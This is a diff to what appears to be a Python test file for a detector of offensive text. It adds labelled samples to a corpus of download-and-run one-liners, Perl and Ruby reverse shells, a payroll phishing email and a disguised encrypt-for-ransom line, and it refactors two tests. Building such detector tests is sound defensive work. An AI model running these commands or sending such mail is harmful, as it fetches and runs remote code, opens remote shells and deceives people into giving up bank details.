@@ -24,6 +24,10 @@ READY = [
     ("download-and-run", "certutil.exe -urlcache -split -f http://45.9.148.3/run.exe C:\\Users\\Public\\run.exe"),
     ("download-and-run", "mshta http://45.9.148.3/payload.hta"),
     ("download-and-run", "regsvr32 /s /n /u /i:http://45.9.148.3/file.sct scrobj.dll"),
+    ("download-and-run", "lwp-request http://45.9.148.3/a.pl | perl"),
+    ("download-and-run", "python3 -c 'import urllib.request; exec(urllib.request.urlopen(\"http://paste-x.net/raw/1\").read())'"),
+    ("remote-shell", "perl -e 'use Socket;$p=4444;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in($p,$a))){exec(\"/bin/sh -i\");};'"),
+    ("remote-shell", "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.5\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'"),
     ("remote-shell", "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"),
     ("remote-shell", "nc -e /bin/sh 10.0.0.5 4444"),
     ("remote-shell", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.5 4444 > /tmp/f"),
@@ -47,6 +51,7 @@ READY = [
     ("phishing-mail", "Subject: Unusual sign-in\n\nDear customer,\nwe saw unusual activity. Please verify your account within 24 hours: click here.\nThe Security Team"),
     ("phishing-mail", "Hello {first_name},\n\nYour mailbox will be suspended. Confirm your password immediately by clicking the link below:\n{{.URL}}"),
     ("phishing-mail", "Dear Accounts Payable,\n\nThe attached invoice is overdue. Please open the attachment and settle the payment details by end of day.\n"),
+    ("phishing-mail", "Subject: Action required: payroll\n\nHi Anna,\n\nHR asks you to confirm your bank details by end of day. Log in here: https://hr-pay.net\n"),
     ("intrusion-steps", "1. Scan the target network for open ports.\n2. Exploit the outdated server to gain a shell.\n3. Dump the hashes and crack them on your machine.\n4. Clear the logs."),
     ("intrusion-steps", "First, send the phishing mail to your victim. Then install a backdoor on the laptop. Finally, exfiltrate the files and cover your tracks."),
     ("intrusion-steps", "Step 1: Set up a listener on your server.\nStep 2: Upload the web shell.\nStep 3: Escalate privileges to root.\nStep 4: Move laterally."),
@@ -83,6 +88,7 @@ TOLD = [
     "Keyloggers call SetWindowsHookEx with WH_KEYBOARD_LL and write what is typed to a file.",
     "Ransomware encrypts files, deletes shadow copies with vssadmin delete shadows, and demands bitcoin.",
     "for path in os.walk(folder): copy = AES.new(key, AES.MODE_GCM).encrypt(read(path))  # nightly backup",
+    "for f in os.walk(src): zip.write(f)  # then Fernet(key).encrypt; the page of bitcoin prices is next",
     "Infostealers read Login Data and logins.json of browsers and send them to a Telegram bot.",
     "A page that runs system(\"ls \" . $_GET['dir']) lets users add commands of their own.",
     "China Chopper is a web shell of one line that evaluates a POST parameter.",
@@ -118,13 +124,13 @@ def test_every_rule_has_a_source_and_cases() -> None:
 
 
 def test_an_attack_in_a_long_text_is_found_where_it_stands() -> None:
-    text = f"{'The log shows nothing. ' * 200}\n{READY[14][1]}\n{'All is well. ' * 200}"
+    text = f"{'The log shows nothing. ' * 200}\n{next(text for _, text in READY if text.startswith('import socket'))}\n{'All is well. ' * 200}"
     (span,) = find_offensive(text)
     assert text[span.start : span.end].startswith("s.connect") and text[span.start : span.end].endswith("'/bin/sh')")
 
 
 def test_parts_that_stand_far_apart_are_no_program() -> None:
-    first, _, last = READY[25][1].split("\n")
+    first, _, last = next(text for _, text in READY if text.startswith("p = Virtual")).split("\n")
     assert find_offensive(f"{first}\n{'Another call is WriteProcessMemory. ' * 200}\n{last}") == []
 
 
